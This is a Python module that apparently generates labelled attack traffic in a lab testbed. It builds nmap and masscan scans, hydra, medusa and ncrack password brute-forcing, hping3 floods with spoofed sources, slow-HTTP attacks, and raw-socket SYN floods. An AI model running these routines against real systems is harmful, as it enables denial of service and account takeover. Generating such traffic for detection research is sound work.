"""What attackers do: real tools, many ways of using them, loud and slow.

Each entry makes one command line (or a function) and names its family; the recorder notes who ran it and when.
"""

import os
import random
import socket
import struct
import subprocess

PASSWORDS = ["123456", "password", "qwerty", "letmein", "admin", "root", "toor", "dragon", "monkey", "secret",
             "changeme", "welcome", "test", "guest", "master", "hello", "summer", "winter", "pass1", "abc123"]
USERS = ["root", "admin", "test", "user", "oracle", "postgres", "ubuntu", "pi", "guest", "backup"]


def nmap(actor, target, *words, timing=None):
    rng = actor.rng
    timing = timing or rng.choice(["-T3", "-T4", "-T4", "-T5"])
    return ["nmap", "-n", "-Pn", timing, "--max-retries", rng.choice([0, 1, 2]), *words, target.v4]


def port_scan(actor, target):
    kind = actor.rng.choice(["-sS", "-sS", "-sT", "-sT", "-sF", "-sN", "-sX", "-sA", "-sW", "-sM"])
    extra = actor.rng.choice([[], [], ["-f"], ["--data-length", "24"], ["-g", "53"], ["--scan-delay", "20ms"]])
    return nmap(actor, target, kind, "--top-ports", actor.rng.choice([50, 200, 1000]), *extra)


def firewalled_scan(actor, target):
    """At an address that swallows everything."""
    kind = actor.rng.choice(["-sS", "-sS", "-sT", "-sF", "-sX", "-sN"])
    return ["nmap", "-n", "-Pn", "-T4", "--max-retries", actor.rng.choice([0, 1]), kind, "--top-ports",
            actor.rng.choice([50, 200]), actor.rng.choice(actor.dead)]


def masscan(actor, target):
    rng = actor.rng
    ports = rng.choice(["1-600", "22,23,80,443,445,3389,8080", "0-65535"])
    first = rng.randrange(2, 180)
    span = rng.choice([target.v4, f"{actor.subnet}.{first}-{actor.subnet}.{first + 40}"])
    mac = link_address(target)
    return ["masscan", span, "-p", ports, "--rate", rng.choice([50, 200, 600]), "-e", "eth0", "--adapter-ip",
            actor.host.v4, "--router-mac", mac, "--wait", "2"]


def link_address(host):
    return subprocess.run(["ip", "-n", host.namespace, "-br", "link", "show", "eth0"], check=True,
                          capture_output=True, text=True).stdout.split()[2]


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


def segment(source, target, ports, flags, window, options=b"", payload=b""):
    """A TCP segment with any window and options, for tools that build their own."""
    header = struct.pack("!HHIIBBHHH", *ports, random.getrandbits(32), 0, (5 + len(options) // 4) << 4, flags, window,
                         0, 0) + options
    body = payload + b"\0" * (len(payload) % 2)
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack("!BBH", 0, 6, len(header) + len(payload))
    return header[:16] + struct.pack("!H", checksum(pseudo + header + body)) + header[18:] + payload


# What tools and bots put behind their SYNs: nothing, MSS, or an imitation of some stack.
OPTIONS = [b"", b"", b"\x02\x04\x05\xb4", b"\x02\x04\x05\xb4\x01\x03\x03\x08", b"\x02\x04\x05\xb4\x04\x02\x01\x01",
           b"\x02\x04\x05\xb4\x04\x02\x08\x0a" + bytes(8) + b"\x01\x03\x03\x07"]


def own_packets(many):
    """Scanners and floods that build their own packets: any window, any options, one source port or many."""

    def attack(actor, target):
        rng = random.Random(actor.rng.random())
        flags = rng.choice([2, 2, 2, 2, 2, 16, 1, 0, 41, 18, 20] if many else [2, 2, 2, 2, 1, 0, 41, 16])
        window, options = rng.choice([512, 1024, 1024, 5840, 8192, 65535, rng.randrange(65536)]), rng.choice(OPTIONS)
        pace = rng.choice([0.0005, 0.002]) if many else rng.choice([0.001, 0.01, 0.1])
        count = rng.choice([1500, 3000]) if many else 400
        home = rng.randrange(1024, 65536)
        whom = target.v4 if many or rng.random() < 0.7 else actor.rng.choice(actor.dead)
        port = target.port["http"]
        payload = os.urandom(rng.choice([0, 0, 0, 24, 600])) if many else b""

        def send():
            with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP) as raw:
                for number in range(count):
                    ports = (rng.randrange(1024, 65536), port) if many else (home, rng.randrange(1, 20000))
                    packet = segment(actor.host.v4, whom, ports, flags, window, options if flags == 2 else b"", payload)
                    raw.sendto(packet, (whom, 0))
                    if not actor.pause(pace):
                        return

        return send

    return attack


def host_discovery(actor, target):
    first = actor.rng.randrange(2, 180)
    kind = actor.rng.choice([["-PE"], ["-PP"], ["-PM"], ["-PU53"], ["-PA80"], ["-PE", "-PS443", "-PA80", "-PP"]])
    return ["nmap", "-n", "-sn", "--send-ip", *kind, f"{actor.subnet}.{first}-{first + 60}"]


def protocol_scan(actor, target):
    return nmap(actor, target, "-sO", "-p", "0-120")


def slow_port_scan(actor, target):
    kind = actor.rng.choice(["-sS", "-sT"])
    delay = actor.rng.choice(["200ms", "500ms", "1s"])
    return nmap(actor, target, kind, "--scan-delay", delay, "--top-ports", 60, timing="-T2")


def udp_scan(actor, target):
    return nmap(actor, target, "-sU", "--top-ports", actor.rng.choice([30, 100]), "--max-rtt-timeout", "200ms")


def version_scan(actor, target):
    ports = ",".join(str(port) for port in sorted(set(target.port.values())))
    return nmap(actor, target, "-sV", actor.rng.choice(["--version-light", "--version-all"]), "-p", ports)


def os_scan(actor, target):
    return nmap(actor, target, "-O", "--top-ports", 30)


def script_scan(actor, target):
    ports = ",".join(str(target.port[name]) for name in ("http", "ssh", "ftp"))
    return nmap(actor, target, "-sC", "-p", ports)


def sweep(actor, target):
    rng = actor.rng
    port = rng.choice([22, 23, 80, 443, 445, 3389])
    first = rng.randrange(2, 180)
    span = f"{actor.subnet}.{first}-{first + 60}"
    kind = rng.choice([["-sS", "-Pn", "-p", port], ["-sT", "-Pn", "-p", port], ["-sn", "-PE", "--send-ip"],
                       ["-sn", f"-PS{port}", "--send-ip"]])
    return ["nmap", "-n", rng.choice(["-T3", "-T4"]), "--max-retries", "1", *kind, span]


def sweep_v6(actor, target):
    return ["nmap", "-n", "-6", "-Pn", "-T4", actor.rng.choice(["-sS", "-sT"]), "--top-ports", "100", target.v6]


def own_connect_scan(actor, target):
    """A scanner written in an afternoon: connects, closes, in random order, at a pace of its own."""
    rng = random.Random(actor.rng.random())
    pace, ports = rng.choice([0.002, 0.02, 0.15]), rng.sample(range(1, 20000), 400)

    def scan():
        for port in ports:
            client = socket.socket()
            client.settimeout(0.5)
            try:
                client.connect((target.v4, port))
                if rng.random() < 0.5:
                    client.recv(100)
            except OSError:
                pass
            client.close()
            if not actor.pause(pace):
                return

    return scan


def guess(tool_words):
    def attack(actor, target):
        rng = actor.rng
        users = actor.scratch_lines(rng.sample(USERS, rng.choice([1, 1, 3, 6])))
        passwords = actor.scratch_lines([f"{rng.choice(PASSWORDS)}{rng.randrange(1000)}" for _ in range(rng.choice([4, 10, 400, 400]))])
        return tool_words(rng, target, users, passwords)

    return attack


def hydra(service, extra=""):
    def words(rng, target, users, passwords):
        pace = rng.choice([[], [], ["-c", "2"], ["-W", "1"], ["-c", "5"]])
        tasks = rng.choice([1, 2, 4, 8, 16]) if not (pace and pace[0] == "-c") else 1
        port = target.port["http" if service.startswith("http") else service]
        tail = [extra] if extra else []
        return ["hydra", "-I", "-q", "-L", users, "-P", passwords, "-t", tasks, *pace, "-s", port, target.v4,
                service, *tail]

    return guess(words)


def medusa(module):
    def words(rng, target, users, passwords):
        port = target.port["http" if module == "web-form" else module]
        return ["medusa", "-h", target.v4, "-n", port, "-U", users, "-P", passwords, "-t", rng.choice([1, 2, 6]),
                "-M", module, *rng.choice([[], ["-r", "2"]])]

    return guess(words)


def ncrack(service):
    def words(rng, target, users, passwords):
        pace = rng.choice(["-T2", "-T3", "-T4"])
        return ["ncrack", pace, "-U", users, "-P", passwords, f"{service}://{target.v4}:{target.port[service]}"]

    return guess(words)


def flood(*kinds):
    def attack(actor, target):
        rng = actor.rng
        words = list(rng.choice(kinds))
        port = target.port[rng.choice(["http", "https", "ssh", "dns"])]
        ports = ["-p", rng.choice([str(port), f"++{rng.randrange(1, 30000)}"])]
        size = rng.choice([[], ["-d", "32"], ["-d", "512"], ["-d", "1200"]])
        spoofed = rng.choice([[], [], ["--rand-source"]])
        # Some 300 to 3000 packets a second: the shape of a flow does not need more, and recordings stay small.
        pace = f"u{rng.choice([300, 700, 1500, 3000])}"
        count = rng.choice([1500, 3000, 6000])
        return ["hping3", "-q", "-n", "-i", pace, "-c", count, *words, *ports, *size, *spoofed, target.v4]

    return attack


def one_flow_flood(actor, target):
    """A UDP flood that keeps its ports: one flow with very many packets and no answer."""
    rng = random.Random(actor.rng.random())
    size, pace, port = rng.choice([18, 200, 1200]), rng.choice([0.0005, 0.002]), rng.randrange(1, 60000)

    def send():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            for _ in range(rng.choice([1500, 5000])):
                client.sendto(b"f" * size, (target.v4, port))
                if not actor.pause(pace):
                    return

    return send


def slow_http(mode):
    def attack(actor, target):
        rng = actor.rng
        return ["slowhttptest", mode, "-c", rng.choice([40, 120, 250]), "-r", rng.choice([10, 40]), "-i",
                rng.choice([1, 3, 8]), "-l", "30", "-x", "24", "-u", f"http://{target.v4}:{target.port['http']}/page"]

    return attack


def web_guess(actor, target):
    """Path guessing: hundreds of short requests that mostly miss."""
    rng = actor.rng
    names = [f"http://{target.v4}:{target.port['http']}/{rng.choice(PASSWORDS)}{index}.php" for index in range(250)]
    path = actor.scratch_lines([f'url = "{name}"\noutput = "/dev/null"' for name in names])
    return ["curl", "-s", "-K", path, *rng.choice([[], ["-H", "Connection: close"]])]


SYN, UDP, ICMP, ODD = ["-S"], ["--udp"], ["--icmp"], ["-A"]
# family -> ways. A recording draws families in turn, so that each is present, then a way.
FAMILIES = {
    "scan": [port_scan, port_scan, port_scan, slow_port_scan, firewalled_scan, masscan, masscan, udp_scan, version_scan,
             os_scan, script_scan, sweep, sweep, sweep_v6, host_discovery, protocol_scan, own_connect_scan,
             own_connect_scan, own_packets(False), own_packets(False), own_packets(False)],
    "brute_force": [hydra("ssh"), hydra("ssh"), hydra("ftp"), hydra("http-get", "/admin/"),
                    hydra("http-post-form", "/form:user=^USER^&pass=^PASS^:F=failed"), medusa("ssh"), medusa("ftp"),
                    ncrack("ssh"), ncrack("ftp"), hydra("pop3"), hydra("telnet"), medusa("pop3"), hydra("redis")],
    "flood": [flood(SYN), flood(SYN), flood(UDP), flood(ICMP), flood(ODD, ["-F"], ["-R"], ["-S", "-A"]),
              one_flow_flood, own_packets(True), own_packets(True)],
    "slow_http": [slow_http("-H"), slow_http("-B"), slow_http("-X")],
    "web_guess": [web_guess],
}
ORDER = ["scan", "brute_force", "flood", "scan", "brute_force", "slow_http", "flood", "web_guess"]
